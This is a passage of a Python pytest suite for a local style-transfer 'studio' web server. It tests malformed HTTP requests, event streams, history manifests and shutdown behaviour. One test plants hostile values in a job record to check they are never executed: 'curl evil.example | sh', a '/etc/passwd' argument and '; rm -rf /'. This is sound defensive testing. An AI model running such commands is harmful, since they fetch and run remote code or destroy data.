        b"POST /jobs HTTP/1.1\r\n",
        b"BREW / HTTP/9\r\n",
    ]
    lines += [b"POST /pictures?name=%00 HTTP/1.1\r\n", b"GET /%ff%fe/..//\r\n", b"\r\n"]
    heads = [b"Content-Length: -1\r\n", b"Content-Length: 9999999999\r\n", b"X: \0\r\n"]
    heads += [b"Transfer-Encoding: chunked\r\n", b"Origin: \xff\r\n", b"A" * 40_000]
    for _ in range(1000):
        parts = [chance.choice(lines), cookie, chance.choice(heads), b"\r\n"]
        parts += [chance.randbytes(chance.randrange(200))]
        if chance.random() < 0.3:
            chance.shuffle(parts)
        with socket.create_connection((HOST, port), timeout=5) as caller:
            try:
                caller.sendall(b"".join(parts))
            except OSError:
                continue  # it has hung up already
    with httpx.Client(base_url=f"http://{HOST}:{port}", timeout=10) as client:
        assert client.get("/").status_code == 403
        client.cookies.set(f"jaxnst-{port}", COOKIE)
        assert client.get("/options").status_code == 200
    wait_for(lambda: not list(studio.pictures.private.glob("*-*")))


def test_a_dropped_connection_leaves_no_file(studio):
    port = studio.access.port
    head = (
        f"POST /pictures?name=a.png HTTP/1.1\r\nHost: {HOST}:{port}\r\n"
        f"Origin: http://{HOST}:{port}\r\nCookie: jaxnst-{port}={COOKIE}\r\n"
        "Content-Length: 100000\r\n\r\n"
    )
    with socket.create_connection((HOST, port)) as caller:
        caller.sendall(head.encode() + b"x" * 5000)
        wait_for(lambda: list(studio.pictures.private.iterdir()))
    wait_for(lambda: not list(studio.pictures.private.iterdir()))
    assert total(studio) == 0


def test_a_tab_that_closes_loses_nothing_and_another_one_is_told(studio):
    with insider(studio) as client:
        with client.stream("GET", "/events"):
            name = paint(client)["name"]
        with client.stream("GET", "/events") as events:
            tab = Tab()
            for event in told(events):
                tab.take(event)
                if any(job["state"] == "done" for job in tab.jobs.values()):
                    break
        assert list(tab.results) == [name]
    wait_for(lambda: studio.streams == 0)


def told(events):
    """The events of a stream, none of them large."""
    for line in events.iter_lines():
        if line.startswith("data:"):
            assert len(line) <= 10_000
            yield json.loads(line[5:])


class Tab:
    """What a tab knows, from what it is told."""

    def __init__(self):
        self.jobs, self.results, self.order = {}, {}, []

    def take(self, event):
        for job in event.get("jobs", []):
            known = self.jobs.setdefault(job["id"], {})
            if terms := job.pop("terms", None):
                kept = known.get("terms", [])[: terms["from"]]
                known["terms"] = kept + terms["points"]
            known |= job
        self.order = event.get("order", self.order)
        self.results |= {x["name"]: x for x in event.get("history", [])}
        for name in event.get("gone", []):
            del self.results[name]


def test_a_tab_of_a_thousand_results_and_a_full_queue_is_told_little(client, studio):
    fill(studio.folder, 1000)
    first = client.get("/history").json()
    assert len(first["results"]) == 1000
    for seed in (1, *range(5, 45)):
        paint(client, seed=seed)
    job = studio.queue.jobs[0]
    wait_for(lambda: job.live.lines)
    tab = Tab()
    tab.take({"history": first["results"]})
    with client.stream("GET", f"/events?since={first['revision']}") as answer:
        events = told(answer)
        for event in events:
            tab.take(event)
            if "order" in event:
                more_lines(job.folder, 30)
            if len(tab.jobs[job.id].get("terms", [])) > 30 * 8:
                (studio.folder / "7.png.json").unlink()
                break
        for event in events:
            tab.take(event)
            if "gone" in event:
                break
    assert event["gone"] == ["7.png"]
    assert tab.order == [job.id for job in studio.queue.jobs]
    now = {job["id"]: job for job in studio.queue.as_json()}
    assert tab.jobs == now
    assert tab.results.keys() == {x["name"] for x in listed(studio.history)}


def test_tabs_are_told_of_a_change_that_a_request_found_first(client, studio):
    changed = studio.queue.changed
    fill(studio.folder, 2)
    wait_for(changed.is_set)
    changed = studio.queue.changed
    (studio.folder / "1.png").unlink()
    (studio.folder / "1.png.json").unlink()
    assert studio.history.find("1.png") is None
    wait_for(changed.is_set)


def fill(folder, count):
    """Results, as the command leaves them."""
    folder.mkdir(exist_ok=True)
    picture = png(64, 48)
    for i in range(count):
        (folder / f"{i}.png").write_bytes(picture)
        write_manifest(folder / f"{i}.png")


def test_a_file_that_is_no_picture_is_no_result(tmp_path):
    (tmp_path / "a.png").write_text("no picture")
    pil.new("1", (15_000, 15_000)).save(tmp_path / "huge.png")
    for name in ("a.png", "huge.png"):
        write_manifest(tmp_path / name)
    assert [x["name"] for x in listed(History(tmp_path))] == ["huge.png"]


def test_a_collection_of_garbage_has_little_to_look_at(client, tmp_path):
    """It stops all threads for as long as it takes, that of the loop too."""
    gc.collect()
    assert gc.get_freeze_count() > 10_000  # all that is imported
    folder = tmp_path / "many"
    fill(folder, 100)
    for i in range(100):
        write_manifest(folder / f"{i}.png", recipe=json.loads(PAINTERLY))
    history, before = History(folder), len(gc.get_objects())
    history.refresh()
    gc.collect()
    assert len(history.known) == 100
    assert len(gc.get_objects()) - before < 100 * 20


def more_lines(folder, count):
    """Lines of a run, as long as real ones."""
    numbers = [round(1e4 / (i + 3), 2) for i in range(8)]
    terms = dict.fromkeys(("content", "style", "tv"), numbers)
    line = {"scale": 0, "step": 1, "frame": 1, "done": 0.5, "terms": terms}
    with (folder / "lines.jsonl").open("a") as file:
        file.write((json.dumps(line) + "\n") * count)


def test_points_of_a_long_run_are_told_once(tmp_path):
    reader, news, tab, sizes = LiveReader(tmp_path), News(), Tab(), []
    line = lambda i: {"scale": 0, "terms": {"style": [i / 7, i / 3]}, "frame": i}
    for i in range(1000):
        reader.lines.append(line(i))
        state = {"id": "a", "terms": reader.terms()}
        events = list(pack(news.of_jobs([state])))
        for event in events:
            tab.take(event)
        sizes.append(sum(len(json.dumps(event)) for event in events))
        assert tab.jobs == {"a": state}
    assert sorted(sizes)[-20] < 1000  # all points are told only when they are thinned


# ---- the history


def test_only_what_has_changed_is_read_again(tmp_path, monkeypatch):
    reads = []
    read = lambda path: reads.append(path.name) or read_manifest(path)
    monkeypatch.setattr("jaxnst.studio.history.read_manifest", read)
    fill(tmp_path, 30)
    history = History(tmp_path)
    history.refresh()
    assert len(reads) == 30
    reads.clear()
    for i in range(30):
        history.find(f"{i}.png")
    history.refresh()
    before = history.revision
    assert reads == []
    write_manifest(tmp_path / "3.png", size=[4, 3])
    (tmp_path / "4.png").unlink()
    save_image(tmp_path / "5.png", np.zeros((4, 6, 3)))
    history.refresh()
    assert set(reads) == {"3.png.json", "5.png.json"}
    _, changed, gone = history.since(before)
    assert ({x["name"] for x in changed}, gone) == ({"3.png", "5.png"}, ["4.png"])


STRANGE = {
    "cake": b'{"recipe": "cake"}',
    "empty": b"",
    "list": b"[]",
    "number": b"3",
    "null": b"null",
    "not a number": b'{"time": NaN, "size": [Infinity, 1e999]}',
    "no text": b"\xff\xfe\xfd",
    "deep": b"[" * 10**6,
    "deep objects": b'{"a":' * 10**5,
    "digits": b"9" * 10**6,
    "large": b" " * 5 * 10**6 + b"{}",
}
CHANGES = [
    {key: value}
    for key in studio_worker.MANIFEST
    for value in (5.5, [], {"a": 1}, [["\0"]], "\ud800", True, 10**400)
    if not (key in ("styles", "pictures_sha256", "blend") and value == [])
]


def nested(levels):
    """A manifest with a recipe that nests."""
    text = json.dumps(studio_worker.MANIFEST)
    return text.replace('"painterly"', f'"x", "y": {"[" * levels}{"]" * levels}')


@pytest.mark.parametrize("levels", [50, 900, 960, 980, 985, 990])
def test_what_nests_deep_ends_nothing(client, studio, levels):
    fill(studio.folder, 1)
    for text in (nested(levels), nested(levels - 1)):  # the second one is compared
        (studio.folder / "0.png.json").write_text(text)
        assert client.get("/history").json()["results"] == []
    write_manifest(studio.folder / "0.png")
    assert len(client.get("/history").json()["results"]) == 1


@pytest.mark.parametrize("suffix", [".json", ".job.json"])
def test_what_is_not_ours_is_neither_shown_nor_deleted(client, tmp_path, suffix):
    folder = tmp_path / "studio"
    folder.mkdir()
    for name, data in STRANGE.items():
        (folder / f"{name}.png{suffix}").write_bytes(data)
    for i, change in enumerate(CHANGES):
        data = studio_worker.MANIFEST | change
        if suffix == ".job.json":
            data = {"settings": data, "time": 3}
        (folder / f"{i}.png{suffix}").write_text(json.dumps(data))
    os.mkfifo(folder / f"pipe.png{suffix}")
    (folder / f"folder.png{suffix}").mkdir()
    write_manifest(tmp_path / "elsewhere")
    (folder / f"link.png{suffix}").symlink_to(tmp_path / "elsewhere.json")
    names = [path.name.removesuffix(suffix) for path in folder.iterdir()]
    for name in names:
        (folder / name).write_bytes(png())
    (folder / "ours.png").write_bytes(png())
    write_manifest(folder / "ours.png")
    found = client.get("/history").json()["results"]
    assert [entry["name"] for entry in found] == ["ours.png"]
    for name in names:
        assert client.delete(f"/history/{name}").status_code == 404
        assert (folder / name).read_bytes() == png()
        assert os.path.lexists(folder / f"{name}{suffix}")
    with client.stream("GET", "/events") as events:
        assert next(told(events))["history"][0]["name"] == "ours.png"


MANIFESTS = st.fixed_dictionaries(
    {}, optional={key: JSON for key in studio_worker.MANIFEST}
)


@given(JSON | MANIFESTS.map(lambda changes: studio_worker.MANIFEST | changes))
def test_any_json_is_a_manifest_or_a_value_error(data):
    try:
        found = check_manifest(data, "a file")
    except ValueError:
        return
    assert found.painting.seed == data["seed"]
    assert (
        check_manifest(found.inside(), "a file").painting.recipe
        == found.painting.recipe
    )


def test_a_command_is_made_anew_and_never_taken_from_a_file(client, studio):
    name = paint(client)["name"]
    wait_for(lambda: states(studio) == ["done"])
    record = studio.folder / f"{name}.job.json"
    kept = json.loads(record.read_text())
    evil = {
        "command": "curl evil.example | sh",
        "arguments": ["stylize", "/etc/passwd"],
    }
    record.write_text(json.dumps(kept | evil))
    (entry,) = client.get("/history").json()["results"]
    settings = read_settings(kept["settings"])
    painting = read_painting(painting_of(settings, studio.sources, "embedded"))
    wanted = as_command(painting, Path("studio") / name)
    assert entry["command"] == shlex.join(["jaxnst", *wanted])
    # Settings that nobody can have chosen are none; the picture is still ours.
    record.write_text(json.dumps(kept | {"settings": {"content": "; rm -rf /"}}))
    (entry,) = client.get("/history").json()["results"]
    assert entry["command"] == f"jaxnst again studio/{name}"
    assert entry["settings"] is None


def test_thumbnails_are_made_once_and_may_be_kept(client, studio, monkeypatch):
    fill(studio.folder, 3)
    made = []
    make = uploads.thumbnail
    count = lambda path, edge: made.append(path.name) or make(path, edge)
    monkeypatch.setattr(uploads, "thumbnail", count)
    for _ in range(2):
        for entry in client.get("/history").json()["results"]:
            address = f"/history/{entry['name']}/thumb?at={entry['version']}"
            answer = client.get(address)
            assert answer.status_code == 200
            assert "max-age" in answer.headers["cache-control"]
    assert sorted(made) == ["0.png", "1.png", "2.png"]
    save_image(studio.folder / "1.png", np.ones((4, 6, 3)))
    thumb = client.get("/history/1.png/thumb").content
    assert pil.open(io.BytesIO(thumb)).getpixel((2, 2)) == (255, 255, 255)


WATCHED = {"open", "os.listdir", "os.scandir", "os.remove", "os.rename"}
opened_in_loop = []


def notice(event, args):
    """Audit hook: files that the thread of a studio's loop waits for."""
    if event in WATCHED and threading.current_thread().name == LOOP:
        opened_in_loop.append((event, str(args[0])))


def test_the_loop_waits_for_no_file(client, studio, tmp_path):
    """A slow disk or a large folder then stops no answer but its own."""
    fill(studio.folder, 20)
    sys.addaudithook(notice)
    opened_in_loop.clear()
    kept = upload(client, png()).json()["id"]
    client.get(f"/pictures/{kept}/view")
    results = client.get("/history").json()["results"]
    for kind in ("thumb", "view", "file", "tiff", "manifest"):
        assert client.get(f"/history/{results[0]['name']}/{kind}").status_code == 200
    paint(client, content=kept)
    stopped = paint(client, seed=1)
    wait_for(lambda: studio.queue.jobs[1].live.lines)
    client.get(f"/jobs/{stopped['id']}/frame")
    with client.stream("GET", "/events") as events:
        next(told(events))
    client.delete(f"/jobs/{stopped['id']}")
    wait_for(lambda: states(studio) == ["done", "stopped"])
    client.post(f"/history/{stopped['name']}/resume", json={})
    client.delete("/history/3.png")
    ours = str(tmp_path), str(studio.pictures.private), "studio"
    assert [x for x in opened_in_loop if x[1].startswith(ours)] == []


def test_what_is_small_is_sent_at_once():
    """The body of an answer would wait for 40 ms after its head."""

    async def delay_is_off(listener):
        accepted = asyncio.get_running_loop().create_future()
        accept = lambda reader, writer: accepted.set_result(writer)
        async with await asyncio.start_server(accept, sock=listener):
            _, ours = await asyncio.open_connection(*listener.getsockname())
            theirs = await accepted
            connection = theirs.get_extra_info("socket")
            found = connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY)
            for writer in (ours, theirs):
                writer.close()
                await writer.wait_closed()
            return found

    assert asyncio.run(delay_is_off(listen(HOST, 0)))


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGHUP])
def test_the_studio_ends_without_a_word_though_a_tab_is_open(tmp_path, number):
    run = [sys.executable, "-m", "jaxnst", "studio"]
    kinds = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "text": True}
    uploads = {"TMPDIR": str(tmp_path)}
    with subprocess.Popen(run, cwd=tmp_path, env=os.environ | uploads, **kinds) as ours:
        address = ours.stdout.readline().split()[-1]
        with httpx.Client(follow_redirects=True, timeout=20) as client:
            assert client.get(address).status_code == 200
            events = address.partition("?")[0] + "events"
            with client.stream("GET", events) as answer:
                lines = answer.iter_lines()
                assert any(line.startswith("data") for line in lines)
                ours.send_signal(number)
                assert not any(line.startswith("data") for line in lines)
        assert ours.stderr.read() == ""
    assert not list(tmp_path.glob("jaxnst-studio-*"))


def test_the_end_of_the_server_keeps_the_state_of_what_is_painted(elsewhere):
    with running() as studio, insider(studio) as client:
        name = paint(client, seed=1)["name"]
        wait_for(lambda: studio.queue.jobs[0].live.lines)
        process = studio.queue.worker.process
    assert History(Path("studio")).find(name).state == "stopped"
    assert process.returncode is not None


def test_two_studios_never_share_a_folder(tmp_path, capsys, monkeypatch):
    monkeypatch.setattr(serve, "Server", None)  # it would serve without end
    folder = tmp_path / "studio"
    with disk.held(folder / "studio"):  # as a studio does
        said = refused(["studio", "--folder", str(folder)], capsys)
    assert "another studio serves" in said
    assert not folder.exists()


def test_the_lock_of_a_worker_that_was_killed_is_deleted(client, studio):
    lock = Path("studio/.harbour-swirls.png.lock")
    lock.parent.mkdir()
    lock.touch()
    assert paint(client, seed=3)["name"] == "harbour-swirls.png"
    wait_for(lambda: studio.queue.jobs[0].over)
    assert not lock.exists()


def test_the_process_that_paints_ends_once_its_studio_is_gone(tmp_path):
    pictures = [str(sample_path("harbour")), str(sample_path("swirls"))]
    forever = [*QUICK, "--set", f"first_steps={10**6}"]
    args = parse(["stylize", *pictures, "-o", "a.png", *forever])
    painting = as_json(painting_from(args, args.content, args.style))
    run = {"out": "a.png", "live_folder": str(tmp_path)}
    job = {"kind": "picture", "pictures": [{"painting": painting, "run": run}]}
    with subprocess.Popen(REAL_WORKER, stdin=subprocess.PIPE, cwd=tmp_path) as process:
        try:
            process.stdin.write(json.dumps(job).encode() + b"\n")
            process.stdin.flush()
            reader = LiveReader(tmp_path)
            wait_for(lambda: reader.read() or reader.lines)
            process.stdin.close()
            assert process.wait(30) == 0
        finally:
            process.kill()
    assert {path.name for path in tmp_path.glob("*a.png*")} == {"a.png.checkpoint.npz"}


# ---- what a run shows


QUICK = ["--size", "48", "--weights", "embedded", "--recipe", "tf-blog", "--quiet"]


def test_a_run_that_is_watched_paints_the_same_picture(elsewhere):
    pictures = [str(sample_path("harbour")), str(sample_path("swirls"))]
    quick = [*QUICK, "--set", "first_steps=6"]
    live = elsewhere / "live"
    live.mkdir()
    assert main(["stylize", *pictures, "-o", "a.png", *quick]) == 0
    args = parse(["stylize", *pictures, "-o", "b.png", *quick])
    run = run_from(args, args.out)
    painting = painting_from(args, args.content, args.style)
    assert stylize.paint(painting, dataclasses.replace(run, live_folder=live)) == 0
    assert Path("a.png").read_bytes() == Path("b.png").read_bytes()
    reader = LiveReader(live)
    reader.read()
    first, *_, last = reader.lines
    assert (first["step"], last["step"], last["done"]) == (1, 6, 1.0)
    assert last["size"] == [48, 36]
    losses = [point["style"] for point in reader.terms()]
    assert len(losses) == 6
    assert losses[-1] == last["terms"]["style"][-1] < losses[0]
    done = [line["done"] for line in reader.lines]
    assert done == sorted(done)
    # The last frame is the result, up to what a JPEG loses.
    frame, result = load_image(live / "frame.jpg"), load_image("b.png")
    assert np.abs(frame - result).mean() < 0.03


def test_patches_are_part_of_the_progress_and_said(tmp_path):
    recipe = get_recipe("painterly")
    stages = (Stage((30, 40), 6), Stage((60, 80), 4))
    lines, total = LiveWriter(tmp_path), total_work(stages, recipe)
    patches = [30 * 40 * PATCH_STEPS, 60 * 80 * PATCH_STEPS]
    assert total == 30 * 40 * 6 + 60 * 80 * 4 + sum(patches)
    reader = LiveReader(tmp_path)
    reader.read()
    assert reader.doing
    assert not reader.lines
    before = 30 * 40 * 6
    places = ((0, 5, 30 * 40 * 5), (0, 6, before), (1, 1, before + patches[0] + 4800))
    for scale, taken, work in places:
        progress = Progress(stages, scale, taken, None, None, None)
        done = work_done(stages, recipe, scale, taken)
        assert done == work
        lines.step(progress, recipe, done, total, pictures=1)
        reader.read()
        assert ("atches" in reader.doing) == (taken == 6)
        after = done + patches[0] if taken == 6 else done
        assert reader.lines[-1]["next"] == pytest.approx(after / total, abs=1e-4)


def test_the_frame_is_new_though_the_first_one_took_long(tmp_path, monkeypatch):
    stages, now = (Stage((6, 8), 500),), [0.0]

    def slow_at_first(state, stage):
        now[0] += 0.01 if now[0] else 3.0  # compiled
        return np.full((6, 8, 3), state)

    monkeypatch.setattr(live.time, "monotonic", lambda: now[0])
    writer = LiveWriter(tmp_path)
    terms = Terms(*np.ones((3, 5)))
    info = Info(np.ones(5), terms, np.ones(5), np.ones(5, bool))
    for taken, newest, frames in ((5, False, 1), (35, False, 2), (40, False, 2)):
        progress = Progress(stages, 0, taken, 0.5, info, slow_at_first)
        writer.frame(progress, newest=newest)
        assert writer.frames == frames
    stopped = Progress(stages, 0, 45, 0.9, info, slow_at_first)
    writer.frame(stopped, newest=True)
    assert np.abs(load_image(tmp_path / "frame.jpg") - 0.9).max() < 0.02


def test_a_run_of_the_terminal_is_shown_and_cannot_be_changed(tmp_path):
    told = []
    with served(tmp_path, title="a.png", tell=told.append):
        base, _, query = told[0].partition("/?")
        assert base.startswith("http://127.0.0.1:")
        with httpx.Client(base_url=base) as client:
            assert client.get("/frame").status_code == 403
            assert client.get(f"/?{query}").status_code == 200
            assert "jaxnst live" in client.get("/").text
            assert len(told) == 2  # for another browser
            assert client.get("/frame").status_code == 404
            (tmp_path / "frame.jpg").write_bytes(b"frame")
            assert client.get("/frame").content == b"frame"
            headers = {"origin": base}
            for path in ("/frame", "/events", "/jobs", "/pictures", "/"):
                assert client.post(path, headers=headers).status_code in (404, 405)


@pytest.mark.parametrize("end", ["done", "stopped"])
def test_tabs_are_told_how_a_run_ended(tmp_path, end):
    told, client = [], httpx.Client(timeout=20)
    with (
        client,
        contextlib.ExitStack() as streams,
        contextlib.suppress(KeyboardInterrupt),
        served(tmp_path, title="a.png", tell=told.append),
    ):
        client.get(told[0])
        address = f"{told[0].partition('?')[0]}events"
        answer = streams.enter_context(client.stream("GET", address))
        events = told_states(answer)
        assert next(events) == "painting"
        reader = threading.Thread(target=lambda: told.append(next(events)))
        reader.start()
        streams.callback(reader.join)
        if end == "stopped":
            raise KeyboardInterrupt
    assert told[-1] == end


def told_states(answer):
    for event in answer.iter_lines():
        if event:
            yield json.loads(event[5:])["state"]


def test_a_missing_extra_is_a_line_that_says_what_to_install(capsys, monkeypatch):
    monkeypatch.setattr(checks, "find_spec", lambda name: None)
    assert "pip install 'jaxnst[studio]'" in refused(["studio"], capsys)


def test_the_server_opens_no_device():
    code = (
        "import jaxnst.studio.server; from jax._src import xla_bridge;"
        "raise SystemExit(xla_bridge.backends_are_initialized())"
    )
    subprocess.run([sys.executable, "-c", code], check=True)
